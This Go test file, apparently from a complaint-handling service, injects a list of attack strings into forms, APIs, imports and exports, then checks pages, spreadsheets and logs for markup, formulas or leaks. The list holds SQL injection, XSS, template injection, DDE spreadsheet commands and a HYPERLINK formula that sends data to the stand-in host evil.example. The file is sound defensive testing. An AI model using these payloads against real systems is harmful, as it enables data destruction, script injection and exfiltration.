package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"hearth/domain"
)

// mark stands in everything that the attacks send, so that it can be found.
const mark = "靶标"

// attacks are texts that are something else to SQL, HTML, a template, a
// spreadsheet, a terminal or a reader. Whether one is taken is for the rules to
// say; what is taken stays a text.
var attacks = []string{
	`'; drop table hearth.account; --` + mark, `' or '1'='1` + mark, `<script>alert("` + mark + `")</script>`, `"><img src=x onerror=alert(1)>` + mark,
	`</textarea></title><svg onload=alert(1)>` + mark, `javascript:alert(1)//` + mark, `{{.User}}{{template "x"}}` + mark, `$1 %s %d @name ` + mark,
	`=HYPERLINK("http://evil.example/?"&A1,"` + mark + `")`, `+cmd|' /C calc'!A0` + mark, `@SUM(1+1)*cmd|'/C'!A0` + mark, `-2+3+cmd|` + mark, "\t=1+1" + mark, "\r=1+1" + mark,
	`＝1+1` + mark, `；=1+1` + mark, "李\u202e四\u2066" + mark, "a\x00b" + mark, "\x1b[31m" + mark, "\ufeff" + mark, "\U0010ffff" + mark, "😀𠮷" + mark, strings.Repeat("长", 20_000) + mark,
	"_x0000_" + mark, "]]>" + mark, "a\u2028b" + mark,
}

// onto is somebody with a browser, or a program, at a service of its own process.
func onto(t *testing.T, s *service, login string, role domain.Role) *insider {
	t.Helper()
	in := &inner{t: t, url: s.base}
	b := in.visitor()
	if login == "" {
		b.token = template.keys[role]
		return b
	}
	if r := b.form("/sign-in", "login", login, "password", password); r.status != http.StatusSeeOther {
		t.Fatalf("sign in as %s: %d", login, r.status)
	}
	return b
}

// send is sent a file with a form.
func (b *insider) send(path, name string, content []byte, pairs ...string) reply {
	b.in.t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	for i := 0; i+1 < len(pairs); i += 2 {
		if err := w.WriteField(pairs[i], pairs[i+1]); err != nil {
			b.in.t.Fatal(err)
		}
	}
	part, err := w.CreateFormFile("file", name)
	if err == nil {
		_, err = part.Write(content)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		b.in.t.Fatal(err)
	}
	return b.ask(http.MethodPost, path, w.FormDataContentType(), body.String())
}

var links = regexp.MustCompile(`href="(/[^"#]*)"`)

// TestInjection sends every attack into every text of intake, notes, claimants,
// enterprises, imports, searches, filters and orders, by pages and API, and then
// reads all pages, files and answers, to see that nothing became markup, a
// formula or a statement, that no read model stopped, and that the log holds
// nothing of it.
func TestInjection(t *testing.T) {
	t.Parallel()
	s := start(t, newState(t)).untilReady()
	operator, desk, leader := onto(t, s, "caller", ""), onto(t, s, "desk", ""), onto(t, s, "head", "")
	chief, work := onto(t, s, "chief", ""), onto(t, s, "work", "")
	program := onto(t, s, "", domain.RoleOperator)
	never := func(what string, r reply) {
		t.Helper()
		if r.status >= 500 {
			t.Errorf("%s: %d %s", what, r.status, firstOf(r.body))
		}
	}
	taken := 0
	for i, a := range attacks {
		what := fmt.Sprintf("attack %d %.30q", i, a)
		r := operator.form("/desk", "_form", "intake", "_back", "/desk", "phone", fmt.Sprintf("138%08d", i), "name", a, "employer", a, "new_enterprise", "1", "category", "wage_arrears",
			"area", "jc-zz", "persons", "2", "owed", "60000", "summary", a, "channel", "hotline", "consent", "1", "external_no", a, "on_behalf_of", a, "not_duplicate", "1")
		never(what+" at the desk", r)
		if r.status == http.StatusSeeOther {
			taken++
		}
		never(what+" by the API", program.command("POST", "/complaints", map[string]any{
			"complaint": map[string]any{
				"category": "wage_arrears", "channel": "hotline", "area": "jc-zz", "reporter": map[string]any{}, "employer": map[string]any{"text": a}, "summary": a,
				"claim": map[string]any{"persons": 3, "owed_fen": 3000000}, "consent": map[string]any{"basis": "legal_duty"},
			},
			"person": map[string]any{"identity": map[string]any{"name": a}, "contact": map[string]any{"phone": fmt.Sprintf("139%08d", i)}},
		}))
		for _, r := range []reply{
			operator.form("/search", "q", a), operator.get("/search"), operator.form("/desk/caller", "phone", a), operator.form("/desk/hints", "employer", a, "name", a, "phone", a),
			operator.form("/enterprises/suggest", "q", a), operator.form("/enterprises/find", "q", a), desk.form("/enterprises", "name", a, "county", a, "uscc", a),
			desk.form("/complaints", "text", a, "phase", a, "sort", a, "area", a, "handler", a, "from", a), desk.get("/complaints?" + url.Values{"kept": {"1"}, "sort": {a}, "phase": {a}, "from": {a}}.Encode()),
		} {
			never(what+" at a search", r)
		}
		q := url.QueryEscape(a)
		for _, address := range []string{
			"/complaints?sort=", "/complaints?phase=", "/complaints?area=", "/complaints?after=", "/complaints?cursor=", "/search?kind=", "/search?p=", "/deadlines?kind=", "/inbox?mine=",
			"/desk?call=", "/calendar?year=", "/events?topic=", "/sign-in?next=", "/sign-in?as=", "/enterprises?after=", "/import/", "/complaints/", "/enterprises/", "/", "/board/rows?code=",
		} {
			r := desk.get(address + q)
			never(what+" at "+address, r)
			if to := r.header.Get("Location"); to != "" && !strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") {
				t.Errorf("%s at %s leads to %q", what, address, to)
			}
		}
		never(what, leader.get("/board?period="+q+"&area="+q+"&from="+q))
		for _, name := range []string{"phase", "category", "risk", "area", "org", "sort", "cursor", "from"} {
			never(what+" in a filter of the API", program.get("/api/v1/complaints?"+name+"="+q))
		}
		never(what, program.command("POST", "/calls", map[string]any{"phone": a}))
		never(what, operator.ask("GET", "/complaints", "", "", "User-Agent", strings.Map(printable, a), "X-Forwarded-For", strings.Map(printable, a), "X-Hearth-Refresh", "1"))
	}
	for name, forged := range map[string][]string{
		"person": {"person_id", uuid.NewString(), "employer", "某公司"}, "enterprise": {"enterprise_id", uuid.NewString(), "name", "某人"},
	} {
		r := operator.form("/desk", append(forged, "_form", "intake", "_back", "/desk", "category", "wage_arrears", "area", "jc-zz", "persons", "2", "owed", "60000", "summary", "某事", "channel", "hotline", "consent", "1", "not_duplicate", "1")...)
		if r.status != http.StatusUnprocessableEntity {
			t.Errorf("a complaint with a %s that is not on file: %d", name, r.status)
		}
		body := map[string]any{"complaint": map[string]any{
			"category": "wage_arrears", "channel": "hotline", "area": "jc-zz", "reporter": map[string]any{"person_id": forged[1]}, "employer": map[string]any{"text": "某公司", "enterprise_id": forged[1]}, "summary": "某事",
			"claim": map[string]any{"persons": 3, "owed_fen": 3000000}, "consent": map[string]any{"basis": "legal_duty"},
		}}
		if r := program.command("POST", "/complaints", body); r.status != http.StatusUnprocessableEntity {
			t.Errorf("the same by the API: %d %s", r.status, r.body)
		}
	}
	if taken < 12 {
		t.Errorf("only %d of %d attacks were taken as text; the rest of the test looks at nothing", taken, len(attacks))
	}
	worked(t, s, desk, chief, work)
	bad := imported(t, desk)
	s.until("the models have caught up", s.caughtUp)
	if code, text := s.readyz(); code != 200 || !strings.Contains(text, `"status":"ready"`) {
		t.Fatalf("after the attacks: %d %s", code, text)
	}
	read(t, s, desk, operator, leader, work)
	sheets(t, desk, leader, bad)
	for _, secret := range []string{mark, "138000000", "139000000", password, template.keys[domain.RoleOperator], "evil.example"} {
		if line := lineWith(s.log.String(), secret); line != "" {
			t.Errorf("the log holds %q: %.300s", secret, line)
		}
	}
	if strings.Contains(s.log.String(), "level=ERROR") {
		t.Errorf("the log tells of errors: %.500s", lineWith(s.log.String(), "level=ERROR"))
	}
}

func printable(r rune) rune {
	if r < ' ' || r > 0xff || r == 0x7f {
		return -1
	}
	return r
}

func firstOf(s string) string { return s[:min(len(s), 200)] }

func lineWith(text, what string) string {
	for line := range strings.Lines(text) {
		if strings.Contains(line, what) {
			return line
		}
	}
	return ""
}

// worked takes cases on, with attacks in notes and names of claimants.
func worked(t *testing.T, s *service, desk, chief, work *insider) {
	t.Helper()
	all := caller(t, s).as(domain.RoleDispatcher).list("")
	if len(all.Rows) < 10 {
		t.Fatalf("%d cases", len(all.Rows))
	}
	for i, a := range attacks {
		c := "/complaints/" + all.Rows[i%10].ID
		command := func(b *insider, name string, pairs ...string) reply {
			page := b.get(c + "/do/" + name).body
			_, rest, _ := strings.Cut(page, `name="seen" value="`)
			seen, _, _ := strings.Cut(rest, `"`)
			return b.form(c+"/do/"+name, append(pairs, "_form", name, "_back", c+"/do/"+name, "seen", seen)...)
		}
		for _, r := range []reply{
			command(desk, "accept", "handling_org", "jc", "time_class", "general", "category", "wage_arrears"),
			command(desk, "add_note", "visibility", "internal", "text", a),
			command(chief, "assign", "handler", userOf(t, chief, c)),
			command(work, "add_claimants", "claimants.0.name", a, "claimants.0.phone", "13700001111", "claimants.0.owed_fen", "100"),
			command(work, "log_contact", "with", "worker", "purpose", "inquiry", "how", "phone", "reached", "1", "summary", a, "text", a),
		} {
			if r.status >= 500 {
				t.Errorf("attack %d on a case: %d %s", i, r.status, firstOf(r.body))
			}
		}
	}
	for _, row := range all.Rows[:10] {
		if page := work.get("/complaints/" + row.ID + "?view=ledger"); page.status != 200 {
			t.Errorf("the ledger of a case: %d", page.status)
		}
	}
}

// userOf is the first officer that the form offers.
func userOf(t *testing.T, b *insider, c string) string {
	t.Helper()
	_, rest, _ := strings.Cut(b.get(c+"/do/assign").body, `name="handler"`)
	for _, option := range strings.Split(rest, `value="`)[1:] {
		if id, _, _ := strings.Cut(option, `"`); len(id) == 36 {
			return id
		}
	}
	return ""
}

// imported brings a file of attacks and returns where its bad rows are.
func imported(t *testing.T, desk *insider) string {
	t.Helper()
	var file bytes.Buffer
	w := csv.NewWriter(&file)
	rows := [][]string{{"编号", "内容", "单位", "姓名", "电话", "地区", "人数", "金额"}}
	for i, a := range attacks {
		if strings.Contains(a, "\x00") {
			if r := desk.send("/import", "a.csv", []byte("编号,内容\n1,"+a+"\n"), "system", "other", "area", "jc-zz", "channel", "web"); r.status != http.StatusUnprocessableEntity {
				t.Errorf("a file that holds a NUL: %d", r.status)
			}
			continue
		}
		rows = append(rows, []string{fmt.Sprint(i) + a, a, a, a, a, a, a, a}, []string{fmt.Sprint("好", i), a, a, a, "13800001234", "泽州", "2", "100"})
	}
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	r := desk.send("/import", `<script>"=1+1".csv`, file.Bytes(), "system", "other", "area", "jc-zz", "channel", "web")
	if r.status != http.StatusSeeOther {
		t.Fatalf("import: %d %s", r.status, firstOf(r.body))
	}
	job := r.header.Get("Location")
	poll(t, "the preview is there", func() bool { return !strings.Contains(desk.get(job).body, "data-refresh") })
	noMarkupOfOthers(t, "the preview", desk.get(job).body)
	return job + "/bad"
}

// read opens every page that can be reached from the navigation, three steps
// deep, as several people, and parses it.
func read(t *testing.T, s *service, people ...*insider) {
	t.Helper()
	marked, pages := 0, 0
	for _, b := range people {
		seen, next := map[string]bool{}, []string{"/"}
		kinds := map[string]int{}
		for depth := 0; depth < 4; depth++ {
			var found []string
			for _, address := range next {
				address = html.UnescapeString(address)
				kind := regexp.MustCompile(`[0-9a-f-]{36}`).ReplaceAllString(address, "{id}")
				kind, _, _ = strings.Cut(kind, "?")
				if seen[address] || strings.HasPrefix(address, "/static/") || strings.Contains(address, ".xlsx") || kinds[kind] > 12 {
					continue
				}
				seen[address] = true
				kinds[kind]++
				r := b.get(address)
				if r.status == http.StatusSeeOther {
					found = append(found, r.header.Get("Location"))
					continue
				}
				if r.status != 200 {
					t.Errorf("%s: %d", address, r.status)
				}
				pages++
				safe(t, address, r)
				if strings.Contains(r.body, mark) {
					marked++
				}
				if strings.Contains(r.body, "\x00") {
					t.Errorf("%s holds a NUL", address)
				}
				if strings.Contains(r.body, "<img src=x") || strings.Contains(r.body, "<svg onload") || strings.Contains(r.body, "<script>alert") {
					t.Errorf("%s: an attack became markup", address)
				}
				for _, m := range links.FindAllStringSubmatch(r.body, -1) {
					found = append(found, m[1])
				}
			}
			next = found
		}
	}
	if pages < 100 || marked < 30 {
		t.Errorf("%d pages were read, %d of them with what was planted; want more", pages, marked)
	}
	t.Logf("%d pages, %d with what was planted", pages, marked)
	for _, c := range caller(t, s).list("").Rows[:10] {
		line := onto(t, s, "", domain.RoleLeader).get("/api/v1/complaints/" + c.ID + "/timeline")
		safe(t, "the timeline by the API", line)
	}
}

// sheets opens every file that can be taken away, as the program of its reader
// would.
func sheets(t *testing.T, desk, leader *insider, bad string) {
	t.Helper()
	marked := 0
	all := regexp.MustCompile(`/complaints/[0-9a-f-]{36}`).FindAllString(desk.get("/complaints").body, -1)
	slices.Sort(all)
	addresses := []string{"/complaints.xlsx"}
	for _, c := range slices.Compact(all)[:min(10, len(slices.Compact(all)))] {
		addresses = append(addresses, c+"/ledger.xlsx", c+"/roster.xlsx")
	}
	for _, address := range addresses {
		r := desk.get(address)
		safe(t, address, r)
		marked += noFormula(t, address, r)
	}
	noFormula(t, "/board.xlsx", leader.get("/board.xlsx"))
	r := desk.get(bad)
	safe(t, bad, r)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\ufeff"))).ReadAll()
	if err != nil || r.status != 200 || len(rows) < 10 {
		t.Fatalf("the file of bad rows: %d, %d rows, %v", r.status, len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) && !regexp.MustCompile(`^\t\d+$`).MatchString(cell) {
				t.Errorf("a cell of a csv that runs: %.60q", cell)
			}
			if strings.Contains(cell, mark) {
				marked++
			}
		}
	}
	if marked < 50 {
		t.Errorf("only %d cells with what was planted", marked)
	}
}

// noFormula opens a workbook and counts the cells that were planted.
func noFormula(t *testing.T, what string, r reply) (marked int) {
	t.Helper()
	f, err := excelize.OpenReader(strings.NewReader(r.body))
	if err != nil || r.status != 200 {
		t.Errorf("%s: %d, %v", what, r.status, err)
		return 0
	}
	defer f.Close()
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x, cell := range row {
				at, err := excelize.CoordinatesToCellName(x+1, y+1)
				if err != nil {
					t.Fatal(err)
				}
				if formula, err := f.GetCellFormula(name, at); err != nil || formula != "" {
					t.Errorf("%s %s: formula %q, %v", what, at, formula, err)
				}
				if linked, to, _ := f.GetCellHyperLink(name, at); linked {
					t.Errorf("%s %s leads to %q", what, at, to)
				}
				if strings.Contains(cell, mark) {
					marked++
					if kind, err := f.GetCellType(name, at); err != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
						t.Errorf("%s %s: %q is no text but %v, %v", what, at, cell, kind, err)
					}
				}
			}
		}
	}
	return marked
}
